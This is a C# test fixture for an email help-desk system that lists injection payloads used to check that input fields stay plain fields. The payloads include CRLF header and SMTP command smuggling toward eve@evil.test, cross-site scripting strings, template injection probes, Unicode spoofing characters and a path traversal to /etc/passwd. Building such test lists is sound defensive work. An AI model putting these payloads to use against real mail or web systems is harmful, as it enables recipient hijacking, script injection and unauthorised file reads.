namespace HelpDesk.Email.Tests.Composition.Injections;

/// <summary>What somebody writes who wants a field to be more than a field.</summary>
internal static class Payloads
{
    private static readonly string[] Cores =
    [
        "\r\nBcc: eve@evil.test", "\nBcc: eve@evil.test", "\rBcc: eve@evil.test", "\r\n Bcc: eve@evil.test", "\n\tTo: eve@evil.test", "\r\n\r\n<script>alert(1)</script>",
        "\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>", "\r\n.\r\nRCPT TO:<eve@evil.test>\r\n", "\n.\nMAIL FROM:<eve@evil.test>\n", "\r\nX-Evil: 1\r\nX-More: 2",
        "\0", "\0\r\nBcc: eve@evil.test", "\u2028Bcc: eve@evil.test", "\u2029Bcc: eve@evil.test", "\u0085Bcc: eve@evil.test", "\u000bBcc: eve@evil.test", "\u000cBcc: eve@evil.test", "\u001b[31m", "\u007f\u009b",
        "%0d%0aBcc: eve@evil.test", "&#13;&#10;Bcc: eve@evil.test", "\\r\\nBcc: eve@evil.test", "=?utf-8?q?=0D=0ABcc:_eve=40evil.test?=", "=?utf-8?b?DQpCY2M6IGV2ZUBldmlsLnRlc3Q=?=", "=?utf-8?q?a?= =?utf-8?q?b", "=?x?y?z?=",
        "\u202egnp.exe", "\u2066x\u2069\u202a", "\u200b\u200d\ufeff", "\ud800", "\udc00\ud800", "\U0001F525", "\u0000\ud83d",
        "{{ticket.number}}", "{{{bodyHtml}}}", "{{#each recipients}}{{address}}{{/each}}", "{{safeHtml bodyHtml}}", "{{> master}}", "{{", "}}}}", "[%Subject%]", "#Body#", "${7*7}", "<%= 7*7 %>", "{{constructor.constructor}}",
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "https://evil.test/\" onmouseover=\"alert(1)",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "</title><script>alert(1)</script>", "--><script>alert(1)</script>", "<svg onload=alert(1)>", "<iframe src=//evil.test>", "<style>@import 'http://evil.test'</style>", "<base href=//evil.test/>", "<meta http-equiv=refresh content=0>", "<form action=//evil.test><input>", "<a href=javascript:alert(1)>x</a>",
        "\"", "\\", "\\\"", "<eve@evil.test>", "eve@evil.test, mallory@evil.test", "\" <eve@evil.test>, \"", ">, <eve@evil.test", "(eve@evil.test)", "undisclosed-recipients:;", "a; b: c,", "@evil.test:", "--=_boundary", "\r\n--=_boundary\r\n", "From eve@evil.test", "../../etc/passwd", "x\t\t\ty", "   ",
        new string('x', 2000), string.Concat(Enumerable.Repeat("word ", 600)), string.Concat(Enumerable.Repeat("ä", 1200)), string.Concat(Enumerable.Repeat("\"<,", 400)), string.Concat(Enumerable.Repeat("\r\n", 500)) + "Bcc: eve@evil.test",
    ];

    /// <summary>200 of them: each as it is, and within other words.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Cores.Concat(Cores.Select(core => $"Printer {core} please")).Concat(Cores.Select(core => $"{core}{core}")).Take(200)];
}
